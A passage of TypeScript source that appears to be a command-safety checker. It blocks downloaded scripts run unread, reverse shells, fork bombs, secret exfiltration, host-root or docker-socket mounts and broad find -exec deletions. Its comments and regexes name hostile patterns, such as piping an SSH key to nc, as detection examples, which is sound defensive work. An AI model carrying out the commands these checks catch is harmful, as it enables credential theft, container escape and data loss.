  const known = walk.files.get(abs);
  if (!known) return;
  if (known.downloaded) {
    block(walk, 'dangerous', `runs ${file}, which ${known.downloaded} downloaded on the same line: unreviewed code`, `download first, read it, then run it in a separate step: ${known.downloaded} … -o ${file} && less ${file}`);
  } else if (known.content !== null) {
    if (lang) checkCode(walk, inv, lang, known.content, depth);
    // Inside the script $0 is its own path (cd "$(dirname "$0")/..").
    else collect(walk, known.content.replace(/"?\$\{?0\}?"?/g, `'${abs}'`), inv.cwd, depth + 1, true);
  }
}

/**
 * A notebook run headless (papermill, jupyter nbconvert --execute, ipython NB.ipynb) that the line wrote or
 * gives on stdin: its code cells are checked as Python, IPython's `!` and `%%bash` included. jupytext reading
 * a script on stdin records the notebook it writes.
 */
function runNotebook(walk: Walk, inv: Invocation, nb: { file: string; output?: string }, depth: number): void {
  if (inv.cwd === null) return;
  const abs = (f: string) => resolveFrom(inv.cwd!, f.replace(/^~(?=\/|$)/, walk.env.home));
  const text = nb.file === '-' ? stdinText(inv) : walk.files.get(abs(nb.file))?.content ?? null;
  if (nb.output !== undefined) {
    if (text !== null) walk.files.set(abs(nb.output), { content: text, downloaded: null });
    return;
  }
  if (nb.file !== '-' && walk.files.get(abs(nb.file))?.downloaded) runScriptFile(walk, inv, nb.file, depth, 'python');
  else if (text !== null) checkCode(walk, inv, 'python', notebookSource(text), depth);
}

/** The call or option just before a string that loads it as credentials or settings (dotenv, a service account's key file). */
const CREDENTIAL_LOADER = /(load_dotenv|dotenv_values|dotenv\b[^'"]*|from_service_account_\w+|from_json_keyfile_name|keyFilename|key_?file(name)?|credentials_?(file|path)|config_file|\.config|ssh_key|identity_?file|pkey|private_key_path)\s*[(:=]?\s*\(?\s*\{?\s*(path\s*[:=]\s*)?(f|r)?['"`]?$/i;

/** Inline interpreter code: deletes, shell commands, devices, reverse shells, secrets sent away, hidden (base64) code. */
function checkCode(walk: Walk, inv: Invocation, lang: NonNullable<ReturnType<typeof langOf>>, code0: string, depth: number): void {
  if (depth > MAX_DEPTH) return;
  const code = lang === 'python' ? withMlDirs(code0) : code0;
  const f = analyzeCode(lang, code);
  const who = `${inv.argv[0]} code`;
  if (f.forkBomb) block(walk, 'dangerous', `${who} is a fork bomb: it starts copies of itself without end until the machine stops answering`);
  if (f.runsFetched) block(walk, 'dangerous', `${who} runs code it downloads: unreviewed code`, 'download it to a file, read it, then run it');
  if (f.tooLong) block(walk, 'dangerous', `${who} of ${code.length} characters is too long to check inline`, 'write it to a file, read it, then run the file');
  for (const sh of f.shell) collect(walk, mayLaunchWindowsShell(sh) ? windows().windowsCommandLine(sh) : sh, inv.cwd, depth + 1, true);
  // IPython magics and notebook cells, the sh/plumbum/fabric libraries; remote stores deleted through SDKs; files emptied (data-rules.ts).
  if (lang === 'python') for (const sh of pythonShellLines(code)) collect(walk, sh, inv.cwd, depth + 1, true);
  const sent = f.exfil ? null : codeSendsSecret(code, () => talksToNetwork(code)) ?? ((lang === 'php' || lang === 'ruby') && talksToNetwork(code) ? framework().codeSecret(code, isSecretName) : null);
  if (sent) block(walk, 'dangerous', `${who} reads the secret ${sent} and sends it away (a URL of another service, an upload or an experiment log)`, 'secrets stay on this machine; ask the user to share what is needed');
  // Any string of the code that names a secret file (~/.pgpass, keys/etl-sa.json, '/airflow.cfg' joined to a setting), with code that talks to the network.
  // (A file given to the loader that uses it as credentials or settings, load_dotenv('.env'), keyFilename: …, is used, not sent.)
  const named = sent || f.exfil || !talksToNetwork(code) ? undefined : stringLiterals(code).find((l) => l.length < 300 && /^[~./]|\//.test(l) && !/^[a-z]+:\/\//i.test(l) && isSecret(walk, resolveFrom(inv.cwd ?? walk.env.cwd, l.replace(/^~(?=\/|$)/, walk.env.home))) && !CREDENTIAL_LOADER.test(code.slice(Math.max(0, code.indexOf(l) - 60), code.indexOf(l))));
  if (named) block(walk, 'dangerous', `${who} reads the secret ${named} and talks to the network: it can send it away`, 'secrets stay on this machine; ask the user to share what is needed');
  const remote = codeRemoteDelete(code) ?? codeStoreWipe(code);
  if (remote) block(walk, 'dangerous', `${who} deletes ${remote}: data outside this machine, for good`, 'let the user delete remote data');
  for (const p of lang === 'python' ? codeTruncates(code) : []) {
    const t = target(inv, { text: p.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true });
    checkEmptied(walk, t, `${who} (open for writing, nothing written)`);
    checkWrite(walk, inv, t, who);
  }
  for (const d of f.decoded) {
    collect(walk, d, inv.cwd, depth + 1, true);
    checkCode(walk, inv, lang, d, depth + 1);
  }
  for (const d of f.deletes) {
    // A path the code takes from a command's output ("$(git rev-parse --show-toplevel)"): resolved as the shell would, or unknown.
    const sub = /^\$\((.*)\)(.*)$/s.exec(d.path);
    const out = sub ? resolveSubstitution(sub[1], parseEnv(walk, inv.cwd)) : null;
    const w: Word = sub && out === null ? { text: `$(…)${sub[2]}`, dynamic: true, glob: false, subs: [sub[1]], quoted: true } : { text: (out !== null ? out + sub![2] : d.path).replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: /[*?]/.test(d.path), subs: [], quoted: true };
    checkDelete(walk, inv, target(inv, w), d.recursive, who);
  }
  for (const dev of f.devices) block(walk, 'dangerous', `${who} writes onto the disk device ${dev}`, 'check the device with lsblk first and write to an image file instead');
  for (const w of f.writes) checkWrite(walk, inv, target(inv, { text: w.replace(/^~(?=\/|$)/, walk.env.home), dynamic: false, glob: false, subs: [], quoted: true }), who);
  if (f.reverse) block(walk, 'dangerous', `${who} connects a socket to a shell: a reverse shell`);
  if (f.exfil) block(walk, 'dangerous', `${who} reads the secret ${f.exfil} and talks to the network: that can send the secret away`, 'secrets stay on this machine; ask the user to share what is needed');
}

/** docker/podman run: host paths mounted into the container, and what the container then runs on them. */
function containerRun(walk: Walk, inv: Invocation, depth: number): void {
  const args = inv.argv.slice(1);
  let i = 0;
  while (i < args.length && args[i].startsWith('-')) i += ['-H', '--host', '--context', '-c', '--config', '--log-level', '-l'].includes(args[i]) ? 2 : 1;
  // docker compose run SERVICE CMD (docker-compose run …) is a run of the service's image.
  const compose = (args[i] === 'compose' && args[i + 1] === 'run') || (/-compose$/.test(inv.argv[0]) && args[i] === 'run');
  const sub = args[i] === 'container' || args[i] === 'compose' ? args[i + 1] : args[i];
  if (sub === 'exec') {
    // docker exec [-u 0] CONTAINER CMD: CMD runs inside the container, on its own files.
    let k = args[i] === 'container' || args[i] === 'compose' ? i + 2 : i + 1;
    while (k < args.length && args[k].startsWith('-')) k += /^(-u|--user|-w|--workdir|-e|--env|--env-file|--detach-keys|--index)$/.test(args[k]) ? 2 : 1;
    const cmd = args.slice(k + 1);
    if (cmd.length > 0) collect(walk, cmd.map(shellWord).join(' '), null, depth + 1, true);
    return;
  }
  if (sub !== 'run' && sub !== 'create') return;
  let j = args[i] === 'container' || compose ? i + 2 : i + 1;
  const mounts: { host: string; inside: string; ro: boolean }[] = [];
  let privileged = false;
  let hostDevice = false;
  let hostPid = false;
  const valueOpts = new Set(['-e', '--env', '--name', '-p', '--publish', '-w', '--workdir', '--network', '--net', '-u', '--user', '--entrypoint', '--env-file', '-l', '--label', '--platform', '--memory', '-m', '--cpus', '--restart', '--hostname', '-h', '--add-host', '--device', '--cap-add', '--cap-drop', '--security-opt', '--ulimit', '--pid', '--ipc', '--uts', '--userns', '--tmpfs', '--shm-size', '--gpus', '--log-driver', '--expose', '--link', '--dns', '--mount', '-v', '--volume', '--volumes-from', '--pull', '--stop-signal', '--health-cmd', '--init-path']);
  const addVolume = (spec: string) => {
    const parts = spec.split(':');
    if (parts.length < 2) return;
    const [src, dst, opt] = parts;
    if (!src.startsWith('/') && !src.startsWith('.') && !src.startsWith('~')) return; // a named volume
    mounts.push({ host: resolveFrom(inv.cwd ?? walk.env.cwd, src.replace(/^~(?=\/|$)/, walk.env.home)), inside: dst, ro: (opt ?? '').split(',').includes('ro') });
  };
  for (; j < args.length; j++) {
    const a = args[j];
    if (!a.startsWith('-')) break;
    const eq = a.indexOf('=');
    const key = eq > 0 ? a.slice(0, eq) : a;
    const val = eq > 0 ? a.slice(eq + 1) : args[j + 1];
    if (key === '--privileged') privileged = true;
    // --cap-add SYS_ADMIN/ALL gives what --privileged gives for mounting and namespaces.
    if (key === '--cap-add' && /^(CAP_)?(SYS_ADMIN|ALL)$/i.test(val ?? '')) privileged = true;
    if (key === '--device' && /^\/dev\/(sd|nvme|vd|xvd|hd|mmcblk|disk)/.test(val ?? '')) hostDevice = true;
    if ((key === '--pid' || key === '--ipc' || key === '--userns') && val === 'host') hostPid = true;
    if (key === '-v' || key === '--volume') addVolume(val ?? '');
    if (key === '--mount') {
      const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(val ?? '')?.[1];
      const dst = /(?:^|,)(?:target|dst|destination)=([^,]+)/.exec(val ?? '')?.[1];
      if (src && dst) addVolume(`${src}:${dst}${/(^|,)readonly/.test(val ?? '') ? ':ro' : ''}`);
    }
    if (eq < 0 && valueOpts.has(key)) j++;
  }
  // An image whose entrypoint is its tool (curlimages/curl -F …): options first mean the tool runs with them.
  // Images built around one tool (alpine/git, amazon/aws-cli, bitnami/kubectl) run it on their arguments: alpine/git push -f … is git push -f ….
  const tool = (args[j] ?? '').replace(/[:@].*$/, '').split('/').pop() ?? '';
  const entry = /^(git|kubectl|helm|terraform|rclone|gh|glab|s3cmd|psql|mysql|redis-cli|mongosh)$/.test(tool) ? tool : tool === 'aws-cli' ? 'aws' : tool === 'azure-cli' ? 'az' : null;
  const command = args[j + 1]?.startsWith('-') ? [tool, ...args.slice(j + 1)] : entry && args[j + 1] !== undefined && args[j + 1] !== entry && !SHELLS.has(args[j + 1]) ? [entry, ...args.slice(j + 1)] : args.slice(j + 1);
  const who = `${inv.argv[0]} run`;
  for (const m of mounts) {
    // The engine's socket answers whatever connects, :ro or not; a container whose known command only reads (docker ps) is a warning.
    const readsOnly = m.host !== '/' && /^docker\s+(ps|images|image\s+ls|inspect|version|info|logs|stats|events|container\s+ls)\b/.test(args.slice(j + 1).join(' '));
    if (readsOnly) warn(walk, 'suspicious', `${who} mounts the container engine socket: the container can control the machine`);
    else if (m.host === '/' && m.ro) continue; // decided below, by what the command does with it
    else if (m.host === '/' || m.host === '/var/run/docker.sock' || m.host === '/run/docker.sock' || m.host.endsWith('/podman.sock')) {
      block(walk, 'dangerous', `${who} mounts the host's ${m.host === '/' ? 'root filesystem' : 'container engine socket'} into a container: whatever runs there controls the machine`, 'mount only the project directory, e.g. -v "$PWD":/app');
    } else if (!m.ro && isSystemPath(m.host, walk.env.home) && !isUnder(m.host, '/tmp') && !/^\/var\/lib\/./.test(m.host) && !/^\/etc\/(localtime|timezone|hosts|resolv\.conf|machine-id|ssl\/certs)$/.test(m.host)) {
      block(walk, 'dangerous', `${who} mounts the system path ${m.host} writable into a container`, 'mount it read-only (:ro) or mount only the project directory');
    }
  }
  const cmdText = command.join(' ');
  if ((privileged && (hostPid || hostDevice || mounts.some((m) => m.host === '/dev') || /\bnsenter\b|\bmount\s+\/dev\/|\/dev\/(sd|nvme|vd|xvd)/.test(cmdText))) || (hostDevice && /\b(mkfs|dd|wipefs|mount|fdisk|parted)\b/.test(cmdText))) {
    block(walk, 'dangerous', `${who} --privileged with the host's processes or devices: a container escape`);
  } else if (privileged) warn(walk, 'suspicious', `${who} --privileged gives the container full access to the host`);
  if (command.length === 0) {
    if (mounts.some((m) => m.host === '/' && m.ro)) rootMountedReadOnly(walk, who, []);
    return;
  }
  // The container's command, with its paths mapped back to the host paths mounted there.
  // (An unquoted glob stays one: the shell expands it before docker runs, docker run … rm -rf ./*.)
  let script = command.map((a, k) => (inv.words[inv.words.length - command.length + k]?.glob && !/[\s'"]/.test(a) ? a : shellWord(a))).join(' ');
  // docker run -i IMAGE sh <<< '…', apptainer shell IMAGE <<EOF: the container's shell runs what the line feeds it.
  const fed = command.length === 1 && SHELLS.has(base(command[0])) ? stdinText(inv) : null;
  if (fed) script = fed;
  for (const m of mounts) {
    if (m.inside === '/' || !m.inside.startsWith('/')) continue;
    const esc = m.inside.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    script = script.replace(new RegExp(`(^|[\\s'"=:@])${esc}(?=/|\\s|$|['"])`, 'g'), `$1${m.host}`);
  }
  const from = walk.out.length;
  // -w DIR: the command's relative paths resolve against DIR, mapped back to the host through the mounts.
  const wIdx = args.findIndex((a) => a === '-w' || a === '--workdir' || a.startsWith('--workdir='));
  const workdir = wIdx >= 0 ? (args[wIdx].includes('=') ? args[wIdx].split('=')[1] : args[wIdx + 1]) : undefined;
  const wm = workdir ? mounts.find((m) => m.inside.startsWith('/') && (workdir === m.inside || workdir.startsWith(`${m.inside}/`))) : undefined;
  const runIn = wm && workdir ? m2host(wm, workdir) : walk.env.cwd;
  collect(walk, script, runIn, depth + 1, true);
  // What runs in the container stands where the container does in a pipeline (docker run -v ~/.ssh:/k … cat /k/id_rsa | nc …).
  if (walk.out.length > from) (inv.inner ??= []).push(...walk.out.slice(from));
  if (mounts.some((m) => m.host === '/' && m.ro)) rootMountedReadOnly(walk, who, walk.out.slice(from));
}

/** Commands that only read and list what they are given (find only without its acting actions). */
const READ_ONLY_TOOLS = /^(ls|cat|head|tail|du|df|stat|file|wc|tree|find|grep|egrep|rg|md5sum|sha\d*sum|diff|cmp|readlink|realpath|test|echo|less|more)$/;

/**
 * The host's root mounted read-only (-v /:/host:ro): a container that only lists or reads ordinary
 * files there (ls /host/etc, du -sh /host/var) is a warning; one that runs anything else, reads a
 * secret, or runs nothing known (the image's own shell) can read every key on the machine: a block.
 */
function rootMountedReadOnly(walk: Walk, who: string, inner: Invocation[]): void {
  // sh -c 'ls /host/etc': the shell's own commands are in the list too.
  const reads = inner.length > 0 && inner.every((i) => (READ_ONLY_TOOLS.test(i.argv[0] ?? '') || (SHELLS.has(i.argv[0] ?? '') && i.argv[1] === '-c')) && !i.argv.some((a) => /^-(delete|exec|execdir|ok|okdir|fprint0?|fprintf|fls)$/.test(a)));
  // grep -r PRIVATE /host/home: a search through homes reads every key in them.
  const secret = inner.flatMap((i) => i.argv.slice(1).map((a) => [i.argv[0], a])).find(([c, a]) => a.startsWith('/') && (isSecretSource(a.replace(/^\/+/, '/'), walk.env) || (/grep|^rg$/.test(c) && /^\/+((home|Users)(\/[^/]+)?|root)?\/?$/.test(a))))?.[1]?.replace(/^\/+/, '/');
  if (reads && secret === undefined) warn(walk, 'suspicious', `${who} mounts the host's root filesystem read-only to list or read it`, 'mount only the directory it needs');
  else block(walk, 'dangerous', `${who} mounts the host's root filesystem into a container${secret ? ` and reads ${secret} there` : ''}: whatever runs there can read every key and password on the machine`, 'mount only the project directory, e.g. -v "$PWD":/app:ro');
}

/** A path inside a container mapped back to the host path mounted there. */
function m2host(m: { host: string; inside: string }, p: string): string {
  return m.host + p.slice(m.inside.length);
}

/** Interpreter code that deletes the paths it is given as arguments (unlink @ARGV, os.remove over sys.argv, fs.rmSync over process.argv). */
function deletesArgs(code: string): boolean {
  return (/@ARGV|\$ARGV|sys\.argv|process\.argv|\bARGV\b|\$argv|Deno\.args|commandArgs/.test(code) || (/(?<![.\w$@])(shift|pop)\b/.test(code) && !/\bsub\b/.test(code))) && /\bunlink\b|os\.(remove|unlink)|rmtree|remove_tree|rmSync|unlinkSync|File\.delete|FileUtils\.rm|\brm_rf\b|\.unlink\(|Deno\.remove/.test(code);
}

/** find ROOTS... tests... -exec CMD {} ; : each -exec command runs with {} as a found path. */
function findRoots(inv: Invocation): { roots: Word[]; filtered: boolean; nameFiltered: boolean; exprStart: number; namePattern: string | null } {
  let i = 1;
  while (i < inv.words.length && /^-[HLP]$|^-O\d$|^-D$/.test(inv.words[i].text)) i += inv.words[i].text === '-D' ? 2 : 1;
  const roots: Word[] = [];
  while (i < inv.words.length && !/^[-(!]/.test(inv.words[i].text)) roots.push(inv.words[i++]);
  // find / -path /proc -prune -o -delete: what follows the last -o applies to everything else.
  const all = inv.argv.slice(i);
  const lastOr = Math.max(all.lastIndexOf('-o'), all.lastIndexOf('-or'));
  const tests0 = lastOr >= 0 && all.slice(lastOr).some((a) => a === '-delete' || /^-(exec|execdir|ok|okdir|print0?|printf|fprint0?|ls|fls)$/.test(a)) ? all.slice(lastOr + 1) : all;
  // find ~ -delete -name '*.tmp': find acts left to right, so a test after -delete narrows nothing it deletes.
  const tests = tests0.includes('-delete') ? tests0.slice(0, tests0.indexOf('-delete')) : tests0;
  // A test that matches everything (-name '*', -regex '.*') is no filter; -mindepth, -type, -maxdepth are none either.
  // A negated test (! -name '.', -not -name x) excludes a few files and keeps the rest: no filter either.
  // -newermt 2000-01-01, -mtime -99999: an age filter reaching back decades selects everything.
  const ancient = (a: string, v: string) => (/^-newer[amcB]t$/.test(a) && /^(19\d\d|20(0\d|1[0-4]))\b/.test(v)) || (/^-[amc]time$/.test(a) && /^-\d{4,}$/.test(v)) || (/^-[amc]min$/.test(a) && /^-\d{7,}$/.test(v));
  const filtered = tests.some(
    (a, k) => /^-(i?name|i?path|i?regex|i?wholename|newer\w*|[amc](time|min)|size|empty|user|group|perm|links|inum|samefile|lname|nouser|nogroup)$/.test(a) && !MATCH_ALL.has(tests[k + 1] ?? '') && !ancient(a, tests[k + 1] ?? '') && tests[k - 1] !== '!' && tests[k - 1] !== '-not',
  );
  // -path '*/.ssh/*' names the keys as -name .ssh would.
  const secretPath = tests.flatMap((a, k) => (/^-i?(path|wholename)$/.test(tests[k - 1] ?? '') ? a.split('/').filter((seg) => isSecretName(seg.replace(/^\*+|\*+$/g, ''))) : []))[0];
  const namePattern = tests.find((a, k) => /^-i?name$/.test(tests[k - 1] ?? '') && !MATCH_ALL.has(a) && tests[k - 2] !== '!' && tests[k - 2] !== '-not') ?? secretPath?.replace(/^\*+|\*+$/g, '') ?? null;
  // Filters on names and paths narrow a listing of / or the home directory; size, owner, age or kind still select nearly all of it.
  const nameFiltered = tests.some((a, k) => /^-(i?name|i?path|i?regex|i?wholename|i?lname|inum|samefile)$/.test(a) && !MATCH_ALL.has(tests[k + 1] ?? '') && tests[k - 1] !== '!' && tests[k - 1] !== '-not');
  return { roots: roots.length > 0 ? roots : [{ text: '.', dynamic: false, glob: false, subs: [], quoted: false }], filtered, nameFiltered, exprStart: i, namePattern };
}

const FD_ARG_OPTS = new Set(['-e', '--extension', '-t', '--type', '-E', '--exclude', '-d', '--max-depth', '--min-depth', '--exact-depth', '-S', '--size', '-c', '--color', '-j', '--threads', '--changed-within', '--changed-before', '--change-newer-than', '--change-older-than', '-o', '--owner', '--base-directory', '--search-path', '--ignore-file', '--max-results', '--batch-size', '--path-separator']);

/**
 * fd (sharkdp/fd) read as the find it stands for: `fd PATTERN [ROOT...] -x|-X CMD` runs CMD on
 * what matches PATTERN under ROOT (default `.`); a pattern of `.`, `^`, `''` or none matches
 * everything (fd's README, "Command execution"); `{}` or, without it, an appended path is the item.
 */
function fdAsFind(inv: Invocation): Invocation | null {
  const w = inv.words;
  let k = 1;
  const pos: Word[] = [];
  let filtered = false;
  let nameFilter = '';
  let exec: Word[] | null = null;
  for (; k < w.length; k++) {
    const a = w[k].text;
    if (a === '-x' || a === '--exec' || a === '-X' || a === '--exec-batch') {
      exec = w.slice(k + 1).filter((x) => x.text !== ';');
      break;
    }
    if (/^-(e|E|t|S|o|c|j|d)$|^--/.test(a) && FD_ARG_OPTS.has(a.split('=')[0])) {
      if (/^(-e|--extension|-S|--size|-o|--owner|--changed-\w+|--change-\w+)$/.test(a.split('=')[0])) {
        filtered = true;
        nameFilter = `*.${(a.includes('=') ? a.split('=')[1] : w[k + 1]?.text) || 'x'}`;
      }
      if (!a.includes('=')) k++;
      continue;
    }
    if (a.startsWith('-')) continue;
    pos.push(w[k]);
  }
  if (exec === null || exec.length === 0) return null;
  const pattern = pos[0]?.text ?? '';
  if (!['', '.', '^', '.*', '^.*$'].includes(pattern)) {
    filtered = true;
    // '^\.venv$', '^node_modules$': an anchored regex of a plain name is that name.
    const exact = /^\^((?:[\w-]|\\\.)+)\$$/.exec(pattern);
    nameFilter = exact ? exact[1].replace(/\\\./g, '.') : `*${pattern}*`;
  }
  const roots = pos.length > 1 ? pos.slice(1) : [{ ...w[0], text: '.', dynamic: false, glob: false, subs: [], quoted: false }];
  const mk = (t: string): Word => ({ ...w[0], text: t, dynamic: false, glob: false, subs: [], quoted: false });
  const cmd = exec.some((x) => x.text.includes('{}')) ? exec : [...exec, mk('{}')];
  const words = [mk('find'), ...roots, ...(filtered ? [mk('-name'), mk(nameFilter)] : []), mk('-exec'), ...cmd, mk('+')];
  return { ...inv, argv: words.map((x) => x.text), words };
}

/**
 * A lister read as the find it stands for: Spotlight's mdfind (mac-rules.ts), and locate NAME (a name
 * anywhere on the disk; locate PATH is read below as the tree under PATH).
 */
function listerAsFind(walk: Walk, u: Invocation): Invocation {
  let argv = spotlightAsFind(u.argv, walk.env.home);
  if (argv === null && /^(locate|mlocate|plocate|slocate)$/.test(u.argv[0] ?? '')) {
    const pat = operands(u.words, new Set(['-d', '--database', '-n', '-l', '--limit'])).map((w) => w.text);
    argv = pat.length === 1 && !/^[/~$]/.test(pat[0]) ? ['find', '/', walk.env.home, '-name', pat[0]] : null;
  }
  if (argv === null) return u;
  const mk = (t: string): Word => ({ ...u.words[0], text: t, dynamic: false, glob: false, subs: [], quoted: true });
  return { ...u, argv, words: argv.map(mk) };
}

/** Patterns of -name/-path/-regex that every file matches. */
const MATCH_ALL = new Set(['*', '.*', '*.*', '.[!.]*', '.??*', '**', '*/*', '.*/*', '^.*$', '.+', '^.*', '.*$']);

function findExec(walk: Walk, inv: Invocation, depth: number): void {
  const { roots, filtered: anyFilter, nameFiltered, namePattern } = findRoots(inv);
  // At / or ~ only filters on names narrow the listing (-ctime -99999, -size +0 select nearly all of it).
  const filtered = roots.some((r) => broadRoot(walk, target(inv, r).abs, inv)) ? nameFiltered : anyFilter;
  // A filter that names secrets (-name 'id_*', '.env*') makes {} a secret for the exfiltration check.
  const secretFilter = namePattern !== null && isSecretName(namePattern);
  for (let i = 1; i < inv.words.length; i++) {
    if (!/^-(exec|execdir|ok|okdir)$/.test(inv.argv[i])) continue;
    let j = i + 1;
    const words: Word[] = [];
    while (j < inv.words.length && inv.argv[j] !== ';' && inv.argv[j] !== '+') words.push(inv.words[j++]);
    for (const root of roots) {
      // A literal -name (.git, node_modules) or a secret pattern says what {} is; another filter leaves it unknown.
      const named = namePattern !== null && (secretFilter || !/[*?[]/.test(namePattern));
      // find /var/log/nginx -name 'access.log.*' -mtime +14 -exec rm: rotated logs, as /var/log/nginx/access.log.1 would be.
      const rotated = namePattern !== null && /^\/var\/log\//.test(target(inv, root).abs ?? '') && /\.log\.\*$|\.log\.\d|\.(gz|xz|bz2|zst|old)$|\.\[0-9\]/.test(namePattern);
      const found = rotated ? `${root.text.replace(/\/$/, '')}/${namePattern!.replace(/\*|\[0-9\]/g, '1')}` : named ? `${root.text.replace(/\/$/, '')}/${namePattern}` : filtered ? `${root.text}/…` : root.text;
      const replaced = words.map((w) =>
        w.text.includes('{}') ? { ...w, text: w.text.replace(/\{\}/g, found), dynamic: w.dynamic || root.dynamic || (filtered && !named), glob: w.glob || root.glob } : w,
      );
      const sub = unwrap(replaced, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd });
      if (sub.script !== null) collect(walk, sub.script, inv.cwd, depth + 1, true);
      if (sub.words.length === 0) continue;
      // find enumerates the whole tree: rm on what an unfiltered find lists deletes the tree, -r or not.
      const tool = base(sub.words[0].text);
      const spread = nameFiltered && /^(rm|unlink|shred|srm)$/.test(tool) ? spreadDelete(walk, target(inv, root).abs, namePattern, inv.argv) : null;
      if (spread) {
        block(walk, 'dangerous', `find -exec ${tool} deletes ${spread}`, 'delete inside one project, or name the exact files');
        continue;
      }
      // perl -e 'unlink @ARGV' {} +, python3 -c '…os.remove(p) for p in sys.argv[1:]' {} +: code deleting its arguments is rm of them.
      const lang = langOf(tool);
      const code = lang ? inlineCode(lang, sub.words.map((w) => w.text)).code : null;
      if (code !== null && deletesArgs(code)) {
        checkDelete(walk, { ...inv, nested: true }, target(inv, { ...root, text: filtered && !named ? `${root.text}/…` : root.text }), !filtered, `find -exec ${tool} code`);
        continue;
      }
      // cp /dev/null {}, sed -i d {}, dd of={} …: every found file emptied, as good as deleted.
      const sargs = sub.words.map((w) => w.text);
      const empties = (tool === 'cp' && /^\/dev\/(null|zero)$/.test(sargs[sargs.length - 2] ?? '')) || (tool === 'sed' && sargs.some((a) => /^-[a-zA-Z]*i/.test(a)) && sargs.some((a) => /^('?)(\d*,?\$?d|\/\.?\*?\/d|\/\/d)\1$/.test(a))) || (tool === 'dd' && sargs.some((a) => /^of=/.test(a)) && sargs.some((a) => /^if=\/dev\/(zero|null|urandom)$/.test(a))) || (tool === 'tee' && sargs.length === 2);
      if (empties) {
        checkDelete(walk, { ...inv, nested: true }, target(inv, { ...root, text: filtered && !named ? `${root.text}/…` : root.text }), !filtered, `find -exec ${tool}`);
        continue;
      }
      const asRm = (ws: Word[]) => [{ ...ws[0], text: 'rm', glob: false }, { ...ws[0], text: '-r', glob: false }, ...operands(ws).map((w) => w)];
      // chmod/chown/chgrp/setfacl on everything an unfiltered find lists is the -R form.
      const permsAll = !filtered && /^(chmod|chown|chgrp|setfacl)$/.test(tool);
      const childWords = permsAll ? [sub.words[0], { ...sub.words[0], text: '-R', glob: false }, ...sub.words.slice(1)] : filtered || !/^(rm|unlink|shred|srm|truncate)$/.test(tool) ? sub.words : tool === 'rm' ? [sub.words[0], { ...sub.words[0], text: '-r', glob: false }, ...sub.words.slice(1)] : asRm(sub.words);
      const child: Invocation = { ...inv, argv: text(childWords), words: childWords, redirects: [], elevated: inv.elevated || sub.elevated, viaXargs: false, upstream: [], nested: true };
      child.argv[0] = base(child.argv[0]);
      walk.out.push(child);
      if (SHELLS.has(child.argv[0])) {
        const { script } = shellScript(child.argv);
        // sh -c ': > "$1"' _ {} (or > {} , truncate -s0 "$1"): each found file emptied, as if deleted.
        if (script !== null && /(^|[;&|]|\s)(:|true|echo\s+-n|printf\s+'')?\s*>\s*["']?(\$\{?[1@]\}?|\{\})/.test(script)) {
          checkDelete(walk, child, target(inv, { ...root, text: filtered ? `${root.text}/…` : root.text, dynamic: root.dynamic }), !filtered, 'find -exec … >');
        }
        // sh -c 'rm -rf "$1"' _ {}: the positional parameters are the words after the script.
        if (script !== null) {
          const pos = child.argv.slice(child.argv.indexOf(script) + 1);
          // With no filter the found paths are the whole tree: rm of them is rm -r of the root.
          collect(walk, substitutePositional(filtered ? script : script.replace(/\brm\s+(?!-[a-zA-Z]*[rR])/g, 'rm -r '), pos), inv.cwd, depth + 1, true);
          // for f; do … "$f" …; done walks the positional parameters: set them first.
          if (/\bfor\s+\w+\s*(;|\n|do\b)/.test(script) && pos.length > 1) collect(walk, `set -- ${pos.slice(1).map((a) => `'${a.replace(/'/g, `'\\''`)}'`).join(' ')}\n${filtered ? script : script.replace(/\brm\s+(?!-[a-zA-Z]*[rR])/g, 'rm -r ')}`, inv.cwd, depth + 1, true);
        }
      }
    }
    i = j;
  }
}

// ---------------------------------------------------------------------------
// Checks

function block(walk: Walk, check: Check, reason: string, suggestion?: string): void {
  walk.findings.push({ check, level: 'block', reason, suggestion });
}
function warn(walk: Walk, check: Check, reason: string, suggestion?: string): void {
  walk.findings.push({ check, level: 'warn', reason, suggestion });
}
function critical(walk: Walk, what: string): void {
  walk.critical ??= what;
}

/** Operands of a command: words that are not options (all words after `--`). */
function operands(words: Word[], argOpts: Set<string> = new Set()): Word[] {
  const out: Word[] = [];
  let ended = false;
  for (let i = 1; i < words.length; i++) {
    const t = words[i].text;
    if (!ended && t === '--') {
      ended = true;
      continue;
    }
    if (!ended && t.startsWith('-') && t !== '-') {
      if (argOpts.has(t)) i++;
      continue;
    }
    out.push(words[i]);
  }
  return out;
}

interface Target {
  word: Word;
  /** Absolute path; null when it cannot be known (dynamic, unknown cwd). */
  abs: string | null;
  /** The glob covers everything in `abs` (`dir/*`, `*`). */
  wholeDir: boolean;
}

/** Unknown parts of a word's text: $VAR, ${...}, an unresolved $(...). */
const UNKNOWN_PART = /\$\(…\)|\$\{[^}]*\}|\$[A-Za-z_]\w*|\$[0-9#?@*$!-]/g;

const PRECIOUS_NAMES = ['.ssh', '.gnupg', '.aws', '.config', '.kube', '.local', 'Documents', 'Desktop', 'projects'];
const TOP_LEVEL_NAMES = ['bin', 'boot', 'etc', 'home', 'lib', 'lib64', 'opt', 'root', 'sbin', 'usr', 'var', 'srv', 'dev', 'proc', 'sys'];

function globMatches(glob: string, name: string): boolean {
  let re = '^';
  for (let i = 0; i < glob.length; i++) {
    const c = glob[i];
    if (c === '*') re += '.*';
    else if (c === '?') re += '.';
    else if (c === '[') {
      const j = glob.indexOf(']', i + 2);
      if (j < 0) return false;
      re += `[${glob.slice(i + 1, j).replace(/^!/, '^').replace(/\\/g, '\\\\')}]`;
      i = j;
    } else re += c.replace(/[.+^${}()|\\]/g, '\\$&');
  }
  try {
    return new RegExp(`${re}$`).test(name);
  } catch {
    return false;
  }
}

function target(inv: Invocation, w: Word): Target {
  if (w.text.startsWith('$(…)') || (w.dynamic && /^\$\{?[A-Za-z_0-9@*]/.test(w.text))) return { word: w, abs: null, wholeDir: false };
  // ~/.[s]sh: a bracket holding one character matches only that character.
  const text = windowsDrivePath(w.text) ?? w.text;
  let p = w.glob ? text.replace(/\[([^\]!^\\])\]/g, '$1') : text;
  let wholeDir = false;
  if (w.glob && /[*?[]|[!@+]\(/.test(p)) {
    // ~/Sites/*/ is ~/Sites/*: the trailing slash only keeps the directories among the matches.
    const segs = p.replace(/(.)\/+$/, '$1').split('/');
